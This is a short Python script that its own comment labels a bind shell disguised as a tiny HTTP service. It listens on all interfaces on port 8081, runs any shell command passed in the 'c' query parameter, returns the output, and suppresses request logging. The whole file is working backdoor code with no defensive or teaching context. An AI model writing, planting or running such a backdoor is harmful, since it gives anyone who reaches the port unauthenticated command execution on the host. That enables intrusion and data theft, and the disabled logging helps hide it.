# technique: bind shell disguised as a tiny HTTP service; GET /?c=<cmd> runs the command and returns output
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs
import subprocess


class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        q = parse_qs(urlparse(self.path).query)
        cmd = q.get("c", [""])[0]
        out = b"ok"
        if cmd:
            out = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(out)


HTTPServer(("0.0.0.0", 8081), H).serve_forever()
